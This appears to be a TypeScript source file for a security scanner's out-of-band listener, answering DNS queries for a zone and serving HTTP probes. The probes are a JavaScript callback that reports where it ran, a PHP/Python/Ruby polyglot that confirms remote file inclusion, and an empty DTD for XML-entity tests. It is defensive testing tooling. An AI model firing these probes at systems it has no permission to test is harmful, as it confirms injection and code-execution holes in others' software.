/** What the listener answers: as little as makes the caller go on, and nothing that a stranger could turn against others. */
import { isIP } from 'node:net'
import packet, { type Answer } from 'dns-packet'

/** Seconds: nobody shall keep an answer, so that every look-up is seen. */
const TTL = 1

/**
 * The answer to one question of one datagram, or null where none is given: a reply, another zone, a broken message.
 * It is barely longer than the question, so forged senders gain nothing.
 */
export const dnsAnswer = (
  message: Buffer,
  zone: { readonly domain: string; readonly address: string },
): { readonly name: string; readonly type: string; readonly reply: Buffer } | null => {
  if (message.length < 12 || message.length > 512 || (message.readUInt16BE(2) & 0xf800) !== 0) return null
  let asked: packet.Packet
  try {
    asked = packet.decode(message)
  } catch {
    return null // Whoever sends broken messages wants no answer that we could give.
  }
  const [question] = asked.questions ?? []
  if (!question || asked.questions?.length !== 1) return null
  const name = question.name.toLowerCase()
  if (name !== zone.domain && !name.endsWith(`.${zone.domain}`)) return null
  const matches = question.type === (isIP(zone.address) === 6 ? 'AAAA' : 'A')
  const address: Answer = {
    type: matches ? question.type : 'A',
    name: question.name,
    ttl: TTL,
    data: zone.address,
  } as Answer
  const own: Answer = { type: 'NS', name: zone.domain, ttl: 3_600, data: `ns.${zone.domain}` }
  const nobody: Answer = {
    type: 'SOA',
    name: zone.domain,
    ttl: TTL,
    data: {
      mname: `ns.${zone.domain}`,
      rname: `hostmaster.${zone.domain}`,
      serial: 1,
      refresh: 3_600,
      retry: 600,
      expire: 86_400,
      minimum: TTL,
    },
  }
  const isApexServer = name === zone.domain && question.type === 'NS'
  const answers = matches ? [address] : isApexServer ? [own] : []
  const reply = packet.encode({
    type: 'response',
    id: asked.id ?? 0,
    flags: packet.AUTHORITATIVE_ANSWER | ((asked.flags ?? 0) & packet.RECURSION_DESIRED),
    questions: [question],
    answers,
    authorities: answers.length > 0 ? [] : [nobody],
  })
  return { name, type: question.type, reply }
}

export interface HttpAnswer {
  readonly type: string
  readonly body: string
}

/**
 * By the ending of the path. `.js` calls back with the address of the page that ran it; `.php` with `?a=` and `?b=` is a
 * text that becomes a product where somebody includes it as code (see programOf); everything else is empty.
 */
export const httpAnswer = (path: string): HttpAnswer => {
  const [file = '', query = ''] = path.split('?')
  if (file.endsWith('.js')) return { type: 'text/javascript', body: CALLING_BACK }
  if (file.endsWith('.dtd')) return { type: 'application/xml-dtd', body: '<!-- nothing -->' }
  const numbers = new URLSearchParams(query)
  const [a, b] = [numbers.get('a') ?? '', numbers.get('b') ?? '']
  if (file.endsWith('.php') && /^\d{1,6}$/.test(a) && /^\d{1,6}$/.test(b)) {
    return { type: 'text/plain', body: programOf(a, b) }
  }
  return { type: 'text/plain', body: '' }
}

/**
 * One text for PHP, where it ends with its first line, and for Python and Ruby, where that line is a comment. What the program has
 * put between the letters tells which of them ran it.
 */
const programOf = (a: string, b: string): string =>
  `# <?php echo 'qv'.(${a}*${b}).'vq'; return; ?>\nprint('qw%dwq' % (${a}*${b}))\n`

/** Says where it ran: origin and path, no query, no cookie, nothing of the page. */
const CALLING_BACK =
  "(()=>{const s=document.currentScript;if(s)new Image().src=s.src.replace(/[^/]*$/,'ran?at='+encodeURIComponent(location.origin+location.pathname))})()"
